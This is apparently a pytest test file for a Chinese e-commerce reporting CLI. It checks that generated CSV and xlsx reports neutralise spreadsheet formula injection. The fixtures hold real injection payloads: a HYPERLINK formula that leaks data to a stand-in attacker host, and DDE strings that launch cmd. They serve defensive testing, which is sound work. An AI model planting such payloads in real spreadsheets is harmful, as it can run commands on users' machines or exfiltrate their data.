"""Formula injection (OWASP CSV injection): text from an input that starts with = + - @ tab
or CR is written inert, to CSV with a leading `'`, to xlsx as a text cell (never a formula)
carrying Excel's quote prefix.

Payloads sit in an order memo, a buyer nick (orders and chat log), an item title and a chat
message; every report that shows those fields is checked cell by cell, and the check
counts the payload cells it saw, so it cannot pass on a report that lost them.
"""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import openpyxl
import pytest
from typer.testing import CliRunner

from csops.cli.app import app
from csops.report.output import DANGEROUS_PREFIXES

runner = CliRunner()
LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点我领券")'
DDE = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS = "+1+1"
PAYLOADS = (LINK, DDE, AT, PLUS)
ORDERS = [
    ["订单编号", "买家会员名", "买家实际支付金额", "订单状态", "订单创建时间", "订单付款时间",
     "宝贝标题", "订单备注"],
    # A credited order whose memo starts with a formula (the 工号 comes after it).
    ["4012000000000000001", "tb小鱼88", "128.50", "交易成功", "2026-10-03 14:01:00",
     "2026-10-03 14:05:00", "纯棉四件套", f"{LINK} 1001"],
    ["4012000000000000002", "阿珍", "59.00", "交易成功", "2026-10-04 10:00:00",
     "2026-10-04 10:01:00", "收纳箱", f"{DDE} 1002"],
    # Unshipped: the overdue list shows the buyer and the title.
    ["4012000000000000003", LINK, "99.00", "买家已付款，等待卖家发货", "2026-10-30 09:00:00",
     "2026-10-30 09:01:00", AT, "1001"],
    ["4012000000000000004", PLUS, "19.00", "买家已付款，等待卖家发货", "2026-10-29 09:00:00",
     "2026-10-29 09:01:00", "\t" + LINK, "1002"],
    # Unpaid: the reminder list shows the buyer and the title.
    ["4012000000000000005", DDE, "0.00", "等待买家付款", "2026-10-31 09:00:00", "", PLUS, ""],
]  # fmt: skip
ROSTER = "工号,姓名,旺旺子账号,岗位\n1001,张敏,店:小敏,售前\n1002,李娜,店:小娜,售后\n"
ATTENDANCE = (
    "工号,姓名,日期,班次,上班1打卡时间,下班1打卡时间\n"
    "1001,张敏,2026-10-08,白班 08:00-17:00,07:58,17:02\n"
    "1002,李娜,2026-10-08,白班 08:00-17:00,07:59,17:05\n"
)
CHAT_TEXT = '=HYPERLINK("http://chat.example/","亲，点这里")'
CHATS = [
    ["客服账号", "买家", "时间", "发送方", "内容"],
    ["店:小敏", LINK, "2026-10-03 13:50:00", "买家", CHAT_TEXT],
    ["店:小敏", LINK, "2026-10-03 13:58:30", "客服", "亲，在的"],
    ["店:小敏", AT, "2026-10-05 10:00:00", "买家", "@" + CHAT_TEXT],
    ["店:小敏", AT, "2026-10-05 10:20:00", "客服", "好的"],
]


def write(path: Path, rows: list[list[str]], encoding: str = "utf-8") -> None:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerows(rows)
    path.write_bytes(buffer.getvalue().encode(encoding))


@pytest.fixture(scope="module")
def reports(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    tmp = tmp_path_factory.mktemp("inject")
    data = tmp / "data"
    data.mkdir()
    write(data / "orders.csv", ORDERS, "gb18030")
    (data / "roster.csv").write_text(ROSTER, encoding="utf-8")
    (data / "attendance.csv").write_text(ATTENDANCE, encoding="utf-8")
    write(data / "chats.csv", CHATS)
    common = ["--data", str(data)]
    month = ["--month", "2026-10"]
    as_of = ["--as-of", "2026-10-31 20:00"]
    runs = {
        "commission": ["commission", *month, *common],
        "commission_explain": ["commission", *month, *common, "--explain", "--staff", "1001"],
        "overdue": ["overdue-shipments", *as_of, *common],
        "unpaid": ["unpaid-orders", *as_of, "--after", "1h", *common],
        "chats_explain": ["chats", *month, *common, "--explain", "--staff", "1001"],
        "inspect": ["inspect", *common],
    }
    out: dict[str, Path] = {}
    for name, args in runs.items():
        for fmt in ("csv", "xlsx"):
            target = tmp / f"{name}.{fmt}"
            result = runner.invoke(app, [*args, "--format", fmt, "--out", str(target)])
            assert result.exit_code == 0, (name, result.output)
            out[f"{name}.{fmt}"] = target
    monthly = tmp / "monthly"
    result = runner.invoke(app, ["monthly", *month, *common, "--out", str(monthly), "--quiet",
                                 "--ledger", str(tmp / "l.sqlite")])  # fmt: skip
    assert result.exit_code == 0, result.output
    out["monthly.xlsx"] = monthly / "csops-2026-10.xlsx"
    return out


def payload_of(text: str) -> str | None:
    """The payload a cell holds (itself or behind a leading `'`), if any."""
    plain = text[1:] if text.startswith("'") else text
    return next((p for p in PAYLOADS if plain.startswith(p) or plain.startswith(p[:12])), None)


def csv_cells(path: Path) -> list[str]:
    text = path.read_text(encoding="utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("commission_explain.csv", {LINK}),  # the credited order's memo
        ("overdue.csv", {LINK, PLUS, AT}),  # buyer nicks, a title
        ("unpaid.csv", {DDE, PLUS}),
        ("chats_explain.csv", {LINK, AT}),  # buyer nicks of the waits
    ],
)
def test_csv_cells_from_inputs_are_inert(
    reports: dict[str, Path], name: str, expected: set[str]
) -> None:
    cells = csv_cells(reports[name])
    seen = {payload_of(c) for c in cells} - {None}
    assert expected <= seen, (name, cells)
    for cell in cells:
        if cell.startswith(DANGEROUS_PREFIXES):
            # Only numbers csops made, and its text formula around a long ID it checked.
            own_id = cell.startswith('="') and cell.endswith('"') and cell[2:-1].isdigit()
            assert own_id or cell.lstrip("-").replace(".", "").isdigit(), cell
        if payload_of(cell):
            assert cell.startswith("'"), cell


def xlsx_cells(path: Path) -> list[openpyxl.cell.cell.Cell]:
    book = openpyxl.load_workbook(path)
    return [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("commission.xlsx", {LINK, DDE}),  # memos on the orders sheet
        ("commission_explain.xlsx", {LINK}),
        ("overdue.xlsx", {LINK, PLUS, AT}),
        ("unpaid.xlsx", {DDE, PLUS}),
        ("chats_explain.xlsx", {LINK, AT}),
        ("monthly.xlsx", {LINK, PLUS, AT}),
    ],
)
def test_xlsx_cells_from_inputs_are_text_never_formulas(
    reports: dict[str, Path], name: str, expected: set[str]
) -> None:
    path = reports[name]
    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets and not any(b"<f>" in archive.read(n) for n in sheets)  # no formula
    cells = xlsx_cells(path)
    seen: set[str] = set()
    for cell in cells:
        if not isinstance(cell.value, str) or not payload_of(cell.value):
            continue
        seen.add(payload_of(cell.value) or "")
        assert cell.data_type == "s", (cell.coordinate, cell.value)
        assert cell.quotePrefix, (cell.coordinate, cell.value)  # one writer: the same guard
    assert expected <= seen, name


def test_chat_text_reaches_no_report(reports: dict[str, Path]) -> None:
    """Message text is read by `inspect` only, which shows no cell values: no report holds
    it, so it cannot be injected anywhere."""
    assert len(reports) == 13
    for name, path in reports.items():
        texts = (
            [str(c.value) for c in xlsx_cells(path) if c.value is not None]
            if path.suffix == ".xlsx"
            else csv_cells(path)
        )
        assert texts, name
        assert not any("chat.example" in t or "亲，在的" in t for t in texts), name
